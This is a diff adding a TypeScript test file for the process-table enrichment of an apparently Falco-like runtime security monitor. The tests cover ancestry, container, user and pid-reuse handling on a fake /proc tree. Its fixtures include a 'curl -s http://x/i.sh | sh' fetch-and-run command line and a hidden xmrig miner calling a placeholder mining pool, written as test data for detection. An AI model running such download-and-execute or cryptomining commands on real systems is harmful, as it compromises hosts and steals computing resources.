@@ -1,0 +1,418 @@
+/**
+ * src/enrich/process-table.ts: seeding, notices (fork, exec, exit, uid), ancestry as the rules
+ * read it, containers, pid reuse, vanished and garbage processes, bounds; on a fake /proc tree and
+ * on the real /proc with real child processes.
+ */
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { spawn, type ChildProcess } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { SyscallEvent } from '../src/events.js';
+import { ContainerResolver, DockerClient } from '../src/enrich/containers.js';
+import { ProcessTable } from '../src/enrich/process-table.js';
+import { readProcessSync } from '../src/enrich/procfs.js';
+import { UserDb } from '../src/enrich/users.js';
+import type { ProcNotice } from '../src/sources/types.js';
+import { defaultRegistry } from '../src/fields/index.js';
+import type { Extracted } from '../src/fields/types.js';
+import { FAKE_BTIME, FakeProc, statLine } from './helpers/fakeproc.js';
+import { NGINX_ID, startDockerStandIn } from './helpers/docker-standin.js';
+
+const reg = defaultRegistry();
+/** A field as a rule names it, e.g. "proc.aname[2]". */
+function field(name: string, ev: SyscallEvent): Extracted {
+  const m = /^([^[]+)(?:\[(.*)\])?$/.exec(name)!;
+  return reg.resolve('syscall', m[1]!, m[2]).extract(ev);
+}
+
+const DOCKER_CGROUP = [`12:pids:/docker/${NGINX_ID}`, `4:memory:/docker/${NGINX_ID}`, '0::/'];
+const exec = (pid: number, ts = 1_700_000_100_000_000_000n): ProcNotice => ({ kind: 'exec', pid, tid: pid, ts });
+const fork = (pid: number, ppid: number, ts = 1_700_000_099_000_000_000n): ProcNotice => ({ kind: 'fork', pid, tid: pid, ppid, ts });
+const exit = (pid: number): ProcNotice => ({ kind: 'exit', pid, tid: pid, exitCode: 0, ts: 1_700_000_200_000_000_000n });
+
+/** Host: systemd(1) → containerd-shim(500) → [container] bash(600) → sh(700); kthreadd(2). */
+function world(): { fp: FakeProc; etc: string; ctrRoot: string; cleanup: () => void } {
+  const fp = new FakeProc();
+  const etc = mkdtempSync(join(tmpdir(), 'mw-pt-host-'));
+  mkdirSync(join(etc, 'etc'));
+  writeFileSync(join(etc, 'etc/passwd'), 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/zsh\n');
+  writeFileSync(join(etc, 'etc/group'), 'root:x:0:\nalice:x:1000:\n');
+  const ctrRoot = mkdtempSync(join(tmpdir(), 'mw-pt-ctr-'));
+  mkdirSync(join(ctrRoot, 'etc'));
+  writeFileSync(join(ctrRoot, 'etc/passwd'), 'root:x:0:0:root:/root:/bin/ash\nminer:x:1000:1000::/home/miner:/bin/sh\n');
+  writeFileSync(join(ctrRoot, 'etc/group'), 'root:x:0:\nminers:x:1000:\n');
+  fp.add({ pid: 1, ppid: 0, comm: 'systemd', argv: ['/sbin/init', 'splash'], exe: '/usr/lib/systemd/systemd', starttime: 1 });
+  fp.add({ pid: 2, ppid: 0, comm: 'kthreadd', argv: [], starttime: 1 });
+  fp.add({ pid: 500, ppid: 1, comm: 'containerd-shim', argv: ['/usr/bin/containerd-shim-runc-v2', '-namespace', 'moby'], exe: '/usr/bin/containerd-shim-runc-v2', starttime: 100 });
+  fp.add({ pid: 600, ppid: 500, comm: 'bash', argv: ['bash'], exe: '/usr/bin/bash', cwd: '/', starttime: 200, cgroup: DOCKER_CGROUP, nspid: [600, 1], root: ctrRoot });
+  fp.add({ pid: 700, ppid: 600, comm: 'sh', argv: ['sh', '-c', 'curl -s http://x/i.sh | sh'], exe: '/usr/bin/dash', starttime: 300, cgroup: DOCKER_CGROUP, nspid: [700, 7], root: ctrRoot });
+  return {
+    fp, etc, ctrRoot,
+    cleanup: () => {
+      fp.cleanup();
+      rmSync(etc, { recursive: true, force: true });
+      rmSync(ctrRoot, { recursive: true, force: true });
+    },
+  };
+}
+
+function fakeTable(w: ReturnType<typeof world>, extra: ConstructorParameters<typeof ProcessTable>[0] = {}): ProcessTable {
+  return new ProcessTable({ procRoot: w.fp.root, clkTck: 100, users: new UserDb({ hostRoot: w.etc }), selfPid: 999_999, ...extra });
+}
+
+test('seeded from /proc: ancestry, container and users as the rules read them', async () => {
+  const w = world();
+  const table = fakeTable(w);
+  try {
+    assert.equal(table.seed(), 5);
+    const sh = table.get(700)!;
+    assert.equal(sh.parent?.name, 'bash');
+    assert.equal(sh.parent?.parent?.name, 'containerd-shim');
+    assert.equal(sh.parent?.parent?.parent?.pid, 1);
+    assert.equal(sh.vpid, 7);
+    assert.equal(sh.user, 'root');
+    assert.equal(sh.shell, '/bin/ash', "the container's passwd names container users");
+    assert.equal(table.get(1)?.user, 'root');
+    assert.equal(table.get(1)?.shell, '/bin/bash', 'host processes: host passwd');
+    assert.equal(table.get(2)?.exe, '', 'a kernel thread has no command line');
+    assert.equal(table.get(1)?.start_ts, BigInt(FAKE_BTIME) * 1_000_000_000n + 10_000_000n);
+    const ctx = await table.describe(700);
+    assert.equal(ctx?.container.id, NGINX_ID.slice(0, 12));
+    assert.equal(ctx?.container.type, 'docker');
+    const host = await table.describe(500);
+    assert.equal(host?.container.id, 'host');
+  } finally {
+    table.close();
+    w.cleanup();
+  }
+});
+
+test('fork then exec: the execve event with ancestry, container, users', async () => {
+  const w = world();
+  const table = fakeTable(w);
+  try {
+    table.seed();
+    assert.equal(await table.onNotice(fork(800, 700)), undefined);
+    // Until it execs, the child is a copy of its parent's image.
+    const child = table.get(800)!;
+    assert.equal(child.name, 'sh');
+    assert.equal(child.parent?.pid, 700);
+    // The kernel ran the exec: /proc now shows the miner.
+    w.fp.add({
+      pid: 800, ppid: 700, comm: 'xmrig', argv: ['./xmrig', '-o', 'stratum+tcp://pool.example:3333', '--donate-level=1'],
+      exe: '/tmp/.x/xmrig', cwd: '/tmp/.x', uid: 1000, gid: 1000, starttime: 400, cgroup: DOCKER_CGROUP, nspid: [800, 9],
+      root: w.ctrRoot, environ: ['HOME=/home/miner'], capEff: '00000000a80425fb',
+    });
+    const ev = await table.onNotice(exec(800));
+    assert.ok(ev);
+    assert.equal(ev.source, 'syscall');
+    assert.equal(ev.type, 'execve');
+    assert.equal(ev.res, 0);
+    assert.equal(ev.ts, 1_700_000_100_000_000_000n);
+    assert.equal(field('proc.name', ev), 'xmrig');
+    assert.equal(field('proc.exe', ev), './xmrig');
+    assert.equal(field('proc.exepath', ev), '/tmp/.x/xmrig');
+    assert.equal(field('proc.args', ev), '-o stratum+tcp://pool.example:3333 --donate-level=1');
+    assert.equal(field('proc.cmdline', ev), 'xmrig -o stratum+tcp://pool.example:3333 --donate-level=1');
+    assert.equal(field('proc.cwd', ev), '/tmp/.x');
+    assert.equal(field('proc.pid', ev), 800);
+    assert.equal(field('proc.vpid', ev), 9);
+    assert.equal(field('proc.ppid', ev), 700);
+    assert.equal(field('proc.pname', ev), 'sh');
+    assert.equal(field('proc.pcmdline', ev), 'sh -c curl -s http://x/i.sh | sh');
+    assert.equal(field('proc.aname[2]', ev), 'bash');
+    assert.equal(field('proc.aname[3]', ev), 'containerd-shim');
+    assert.equal(field('proc.apid[4]', ev), 1);
+    assert.equal(field('proc.aname[5]', ev), undefined);
+    assert.deepEqual(field('proc.aname', ev), ['sh', 'bash', 'containerd-shim', 'systemd']);
+    assert.equal(field('proc.env[HOME]', ev), '/home/miner');
+    assert.equal(field('user.uid', ev), 1000);
+    assert.equal(field('user.name', ev), 'miner');
+    assert.equal(field('user.homedir', ev), '/home/miner');
+    assert.equal(field('group.name', ev), 'miners');
+    assert.equal(field('user.loginuid', ev), -1);
+    assert.equal(field('thread.cap_effective', ev), 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP');
+    assert.equal(field('proc.pid.ts', ev), BigInt(FAKE_BTIME) * 1_000_000_000n + 4_000_000_000n);
+    assert.equal(field('container.id', ev), '3ad7b26ded6d');
+    assert.equal(field('container.type', ev), 'docker');
+    assert.equal(field('container.name', ev), undefined, 'no runtime answers here: <NA>');
+    assert.equal(field('mw.miner.flags', ev), true);
+    assert.equal(field('mw.stratum.host', ev), 'pool.example');
+    assert.equal(table.get(800), ev.proc);
+    assert.equal(table.stats.execs, 1);
+    assert.equal(table.stats.forks, 1);
+  } finally {
+    table.close();
+    w.cleanup();
+  }
+});
+
+test('exit: resolvable during the grace, gone after; children follow reparenting', async () => {
+  const w = world();
+  let now = 10_000;
+  const table = fakeTable(w, { exitGraceMs: 5000, now: () => now });
+  try {
+    table.seed();
+    await table.onNotice(fork(800, 700));
+    w.fp.add({ pid: 800, ppid: 700, comm: 'loader', argv: ['loader'], starttime: 400 });
+    await table.onNotice(exec(800));
+    await table.onNotice(fork(900, 800));
+    w.fp.add({ pid: 900, ppid: 800, comm: 'kworkerds', argv: ['kworkerds'], starttime: 500 });
+    await table.onNotice(exec(900));
+    // The loader exits; the kernel reparents its child to init.
+    w.fp.remove(800);
+    w.fp.add({ pid: 900, ppid: 1, comm: 'kworkerds', argv: ['kworkerds'], starttime: 500 });
+    await table.onNotice(exit(800));
+    assert.equal((await table.lookup(800))?.name, 'loader', 'a dying pid still resolves during the grace');
+    assert.equal((await table.lookup(900))?.parent?.name, 'loader');
+    now += 5001;
+    await table.onNotice({ kind: 'uid', pid: 1, tid: 1, ruid: 0, euid: 0, ts: 1n });
+    assert.equal(table.get(800), undefined, 'removed after the grace');
+    // Meanwhile an unrelated process got pid 800: it started after 900, so it is not its parent.
+    w.fp.add({ pid: 800, ppid: 1, comm: 'newcomer', argv: ['newcomer'], starttime: 9999 });
+    const orphan = await table.lookup(900);
+    assert.equal(orphan?.ppid, 1, 'reparented');
+    assert.equal(orphan?.parent?.name, 'systemd');
+    assert.equal(table.stats.exits, 1);
+  } finally {
+    table.close();
+    w.cleanup();
+  }
+});
+
+test('pid reuse is told by start time', async () => {
+  const w = world();
+  const table = fakeTable(w);
+  try {
+    table.seed();
+    const before = table.get(700)!;
+    // 700 exited (the notice was lost) and a new process got the pid.
+    w.fp.add({ pid: 700, ppid: 1, comm: 'cron', argv: ['/usr/sbin/cron', '-f'], starttime: 9000 });
+    const fresh = await table.lookup(700);
+    assert.equal(fresh?.name, 'cron');
+    assert.notEqual(fresh, before);
+    assert.equal(fresh?.parent?.name, 'systemd');
+    assert.equal(table.stats.reused, 1);
+    // And through an exec notice.
+    w.fp.add({ pid: 600, ppid: 1, comm: 'nginx', argv: ['nginx'], starttime: 9100 });
+    const ev = await table.onNotice(exec(600));
+    assert.equal(ev?.proc.name, 'nginx');
+    assert.equal(table.stats.reused, 2);
+  } finally {
+    table.close();
+    w.cleanup();
+  }
+});
+
+test('a process gone before it was read: a minimal event, never a crash', async () => {
+  const w = world();
+  const table = fakeTable(w);
+  try {
+    table.seed();
+    await table.onNotice(fork(800, 700));
+    // It exec'd and exited before we looked: /proc/800 never shows the new image.
+    const ev = await table.onNotice(exec(800));
+    assert.ok(ev);
+    assert.equal(ev.proc.pid, 800);
+    assert.equal(ev.proc.name, '');
+    assert.equal(ev.proc.args, undefined, "the parent's argv is not passed off as the new image's");
+    assert.equal(field('proc.pname', ev), 'sh');
+    assert.equal(field('proc.aname[2]', ev), 'bash');
+    assert.equal(field('container.id', ev), '3ad7b26ded6d');
+    // Never seen at all: pid and notice only.
+    const lone = await table.onNotice(exec(4242));
+    assert.ok(lone);
+    assert.equal(lone.proc.pid, 4242);
+    assert.equal(lone.proc.parent, undefined);
+    assert.equal(field('container.id', lone), 'host');
+    assert.equal(table.stats.vanished, 2);
+    assert.equal(await table.lookup(4242), undefined);
+    assert.equal(await table.describe(4242), undefined);
+  } finally {
+    table.close();
+    w.cleanup();
+  }
+});
+
+test('garbage in /proc gives undefined, not exceptions', async () => {
+  const w = world();
+  const table = fakeTable(w);
+  try {
+    w.fp.add({ pid: 66, ppid: 1, comm: 'x', statText: '66 (x) Z' });
+    w.fp.add({ pid: 67, ppid: 1, comm: 'y', statText: '\0\0garbage\n' });
+    w.fp.add({ pid: 68, ppid: 1, comm: 'odd (name) )', argv: ['odd'], starttime: 50, omit: ['status', 'exe', 'cwd', 'cgroup', 'loginuid'] });
+    assert.equal(table.seed(), 6, 'the two garbage entries are skipped');
+    assert.equal(await table.lookup(66), undefined);
+    assert.equal(await table.lookup(67), undefined);
+    const odd = await table.lookup(68);
+    assert.equal(odd?.name, 'odd (name) )');
+    assert.equal(odd?.uid, undefined);
+    assert.equal(odd?.parent?.pid, 1, 'ppid from stat when status is missing');
+    assert.equal((await table.onNotice(exec(67)))?.proc.name, '');
+    assert.equal(await table.onNotice({ kind: 'bogus' as never, pid: 1, tid: 1, ts: 0n }), undefined);
+    assert.equal(table.stats.errors, 0);
+  } finally {
+    table.close();
+    w.cleanup();
+  }
+});
+
+test('threads are not processes; uid changes rename the user', async () => {
+  const w = world();
+  const table = fakeTable(w);
+  try {
+    table.seed();
+    await table.onNotice({ kind: 'fork', pid: 700, tid: 701, ppid: 700, ts: 1n });
+    assert.equal(table.get(701), undefined);
+    const before = table.get(700)!;
+    await table.onNotice({ kind: 'uid', pid: 700, tid: 700, ruid: 1000, euid: 1000, ts: 2n });
+    const after = table.get(700)!;
+    assert.equal(after.uid, 1000);
+    assert.equal(after.user, 'miner');
+    assert.equal(before.uid, 0, 'an event already emitted keeps its uid');
+    await table.onNotice({ kind: 'exit', pid: 700, tid: 701, ts: 3n });
+    assert.equal(table.stats.exits, 0, 'a thread exit is not a process exit');
+  } finally {
+    table.close();
+    w.cleanup();
+  }
+});
+
+test('the table is bounded and counts evictions', () => {
+  const fp = new FakeProc();
+  try {
+    fp.add({ pid: 1, ppid: 0, comm: 'init', starttime: 1 });
+    for (let i = 0; i < 40; i++) fp.add({ pid: 1000 + i, ppid: 1, comm: `w${i}`, starttime: 10 + i });
+    const table = new ProcessTable({ procRoot: fp.root, clkTck: 100, maxEntries: 16, users: false, exe: false });
+    assert.equal(table.seed(), 41);
+    assert.equal(table.size, 16);
+    assert.equal(table.stats.evictions, 25);
+    table.close();
+  } finally {
+    fp.cleanup();
+  }
+});
+
+test('container name and image from a runtime that answers, awaited with a timeout', async () => {
+  const api = await startDockerStandIn();
+  const w = world();
+  const containers = new ContainerResolver({ clients: [new DockerClient({ socketPath: api.socketPath, timeoutMs: 5000 })] });
+  const table = fakeTable(w, { containers, containerWaitMs: 10_000 });
+  try {
+    table.seed();
+    await table.onNotice(fork(800, 700));
+    w.fp.add({ pid: 800, ppid: 700, comm: 'curl', argv: ['curl', '-s', 'http://x/i.sh'], starttime: 400, cgroup: DOCKER_CGROUP, root: w.ctrRoot });
+    const ev = (await table.onNotice(exec(800)))!;
+    assert.equal(field('container.name', ev), 'web');
+    assert.equal(field('container.image', ev), 'nginx:1.25');
+    assert.equal(field('container.image.repository', ev), 'nginx');
+    assert.equal(field('container.image.tag', ev), '1.25');
+    assert.equal(field('container.privileged', ev), true);
+    assert.equal(field('container.mount.dest[/var/run/docker.sock]', ev), '/var/run/docker.sock');
+    assert.equal(field('container.info', ev), 'container_id=3ad7b26ded6d container_name=web');
+  } finally {
+    table.close();
+    w.cleanup();
+    await api.close();
+  }
+});
+
+// ---- the real /proc ------------------------------------------------------------------------------
+
+async function spawned(cmd: string, args: string[], cwd: string): Promise<ChildProcess> {
+  const child = spawn(cmd, args, { cwd, stdio: 'ignore' });
+  await new Promise<void>((res, rej) => {
+    child.once('spawn', () => res());
+    child.once('error', rej);
+  });
+  // spawn resolves after fork: wait until the exec shows in /proc (what the exec notice means).
+  for (let i = 0; i < 300 && readProcessSync(child.pid!)?.comm !== cmd; i++) await new Promise((r) => setTimeout(r, 10));
+  return child;
+}
+
+function whichSleep(): string {
+  for (const p of ['/usr/bin/sleep', '/bin/sleep']) {
+    try {
+      return realpathSync(p);
+    } catch {
+      // try the next
+    }
+  }
+  return 'sleep';
+}
+
+test('the real /proc: seed, then the exec of a child we spawned', async () => {
+  const dir = realpathSync(mkdtempSync(join(tmpdir(), 'mw-pt-real-')));
+  const table = new ProcessTable({ hashWaitMs: 10_000 });
+  let child: ChildProcess | undefined;
+  try {
+    assert.ok(table.seed() > 1);
+    assert.equal(table.get(process.pid)?.pid, process.pid);
+    child = await spawned('sleep', ['5'], dir);
+    const pid = child.pid!;
+    const ev = await table.onNotice({ kind: 'exec', pid, tid: pid, ts: BigInt(Date.now()) * 1_000_000n });
+    assert.ok(ev);
+    assert.equal(field('proc.name', ev), 'sleep');
+    assert.equal(field('proc.exe', ev), 'sleep');
+    assert.equal(field('proc.args', ev), '5');
+    assert.equal(field('proc.cmdline', ev), 'sleep 5');
+    assert.equal(field('proc.cwd', ev), dir);
+    assert.equal(field('proc.ppid', ev), process.pid);
+    assert.equal(field('proc.apid[1]', ev), process.pid);
+    assert.equal(field('proc.pname', ev), table.get(process.pid)?.name);
+    assert.equal(field('user.uid', ev), process.geteuid!());
+    if (process.geteuid!() === 0) assert.equal(field('user.name', ev), 'root');
+    assert.equal(field('container.id', ev), 'host');
+    assert.equal(field('container.name', ev), 'host');
+    assert.equal(field('proc.is_exe_upper_layer', ev), false);
+    assert.equal(field('proc.is_exe_from_memfd', ev), false);
+    assert.ok((field('proc.exe_ino', ev) as number) > 0);
+    const start = field('proc.pid.ts', ev) as bigint;
+    const nowNs = BigInt(Date.now()) * 1_000_000n;
+    const off = start > nowNs ? start - nowNs : nowNs - start;
+    assert.ok(off < 30_000_000_000n, `start_ts within seconds of now (off by ${off} ns)`);
+    assert.equal(field('mw.proc.exe_sha256', ev), createHash('sha256').update(readFileSync(whichSleep())).digest('hex'));
+    assert.equal(table.isSelf(pid), true, 'our own child');
+    assert.equal(table.isSelf(process.pid), true);
+    assert.equal(table.isSelf(1), false);
+  } finally {
+    child?.kill('SIGKILL');
+    table.close();
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
+test('the real /proc: lookup on a miss reads the process; fork notices copy the parent', async () => {
+  const dir = realpathSync(mkdtempSync(join(tmpdir(), 'mw-pt-real2-')));
+  const table = new ProcessTable({ hash: false });
+  let child: ChildProcess | undefined;
+  try {
+    child = await spawned('sleep', ['7'], dir);
+    const pid = child.pid!;
+    const info = await table.lookup(pid);
+    assert.equal(info?.name, 'sleep');
+    assert.deepEqual(info?.args, ['7']);
+    assert.equal(info?.parent?.pid, process.pid);
+    assert.equal(table.stats.lookupMisses >= 1, true);
+    const ctx = await table.describe(pid);
+    assert.equal(ctx?.container.id, 'host');
+    assert.equal(ctx?.proc, info);
+    // A fork notice for a pid we know nothing about reads what is there.
+    const t2 = new ProcessTable({ hash: false });
+    await t2.onNotice({ kind: 'fork', pid, tid: pid, ppid: process.pid, ts: 1n });
+    assert.equal(t2.get(pid)?.parent?.pid, process.pid);
+    assert.equal(t2.get(pid)?.start_ts, info?.start_ts, 'the exact start time from /proc, not the notice time');
+    t2.close();
+  } finally {
+    child?.kill('SIGKILL');
+    table.close();
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
+test('statLine helper round-trips through the table', () => {
+  assert.match(statLine({ pid: 5, comm: 'a b', ppid: 1 }), /^5 \(a b\) S 1 /);
+});
